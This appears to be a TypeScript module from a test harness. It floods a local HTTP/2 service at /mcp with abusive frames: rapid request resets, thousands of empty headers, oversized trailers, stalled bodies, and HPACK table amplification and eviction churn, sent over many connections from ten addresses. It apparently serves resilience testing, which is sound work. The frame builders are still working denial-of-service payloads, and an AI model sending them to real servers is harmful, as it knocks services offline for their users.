/** Attacks by frames that make HTTP/2's own parser work; they run in the process of attacker.ts. */
import type { TLSSocket } from 'node:tls';
import { addressOf, type Target } from './attacks.ts';
import { frame, frameTypes, openHttp2, requestFrame, resetFrame, settingsFrame } from './http2-attacker.ts';

interface Frames extends Target {
  readonly shape: keyof typeof shapes;
  readonly connections: number;
  /** Requests, or for DATA frames, on each connection. */
  readonly frames: number;
  readonly holdMs: number;
}

const endHeaders = 0x04;
const endStream = 0x01;

/** A header block: the request's pseudo-headers, then these bytes (RFC 7541). */
const requestBlock = (method: number, rest: Buffer): Buffer =>
  // 1: :authority, 4: :path, 7: :scheme https; without indexing.
  Buffer.concat([Buffer.from([0x80 | method, 0x87]), literal(0x01, 'localhost'), literal(0x04, '/mcp'), rest]);
const literal = (prefix: number, value: string): Buffer =>
  Buffer.concat([Buffer.from([prefix, value.length]), Buffer.from(value)]);
const get = 2;
const post = 3;

/** Bytes of one request each, by stream. */
const shapes = {
  /** A request and its reset, in a write of their own. */
  resets: (stream: number) => Buffer.concat([requestFrame(stream, '/json', stream === 1), resetFrame(stream)]),
  /** 2,000 headers with an empty name and value. */
  emptyNames: (stream: number) =>
    frame(frameTypes.headers, endHeaders | endStream, stream, requestBlock(get, Buffer.alloc(6_000))),
  /** Trailers of 11 KB after an empty body. */
  trailers: (stream: number) =>
    Buffer.concat([
      frame(frameTypes.headers, endHeaders, stream, requestBlock(post, Buffer.alloc(0))),
      frame(
        frameTypes.headers,
        endHeaders | endStream,
        stream,
        Buffer.concat(Array.from({ length: 1_000 }, () => Buffer.from('\0\x03a-b\x04abcd', 'latin1'))),
      ),
    ]),
  /** One byte of a body that never ends. */
  data: (stream: number) =>
    stream === 1
      ? frame(frameTypes.headers, endHeaders, 1, requestBlock(post, Buffer.alloc(0)))
      : frame(frameTypes.data, 0, 1, Buffer.from('1')),
  /** One header of 3.9 KB in the table, and 12,000 references to it in each request. */
  references: (stream: number) =>
    frame(
      frameTypes.headers,
      endHeaders | endStream,
      stream,
      requestBlock(
        get,
        stream === 1
          ? Buffer.concat([Buffer.from('\x40\x01a\x7f\x9d\x1d', 'latin1'), Buffer.alloc(3_900, 'a')])
          : Buffer.alloc(12_000, 0xbe),
      ),
    ),
  /** Each header is a new entry of the table, and evicts others. */
  newEntries: (stream: number) =>
    frame(
      frameTypes.headers,
      endHeaders | endStream,
      stream,
      requestBlock(
        get,
        Buffer.concat(
          Array.from({ length: 1_000 }, (_, at) =>
            Buffer.from(`\x40\x06a${10_000 + ((at + stream) % 90_000)}\x01b`, 'latin1'),
          ),
        ),
      ),
    ),
};

/** Sends the frames of a shape on many connections from ten addresses, each in a write of its own, while the service reads them. */
export async function sendFrames({ shape, connections, frames, holdMs, httpsPort }: Frames) {
  const endMs = performance.now() + holdMs;
  const send = async (at: number): Promise<number> => {
    const socket = await openHttp2(httpsPort, addressOf(at % 10), settingsFrame());
    if (socket === null) return 0;
    socket.resume();
    let sent = 0;
    while (sent < frames && !socket.destroyed && performance.now() < endMs) {
      const isAccepted = socket.write(shapes[shape](2 * sent + 1));
      sent += 1;
      if (!isAccepted) await drained(socket, endMs);
    }
    await new Promise((resolve) => setTimeout(resolve, Math.max(0, endMs - performance.now())));
    socket.destroy();
    return sent;
  };
  const sent = await Promise.all(Array.from({ length: connections }, (_, at) => send(at)));
  return { sent: sent.reduce((sum, each) => sum + each, 0) };
}

function drained(socket: TLSSocket, endMs: number): Promise<void> {
  return new Promise((resolve) => {
    const timer = setTimeout(resolve, Math.max(0, endMs - performance.now()));
    const end = (): void => {
      clearTimeout(timer);
      resolve();
    };
    socket.once('drain', end).once('close', end);
  });
}
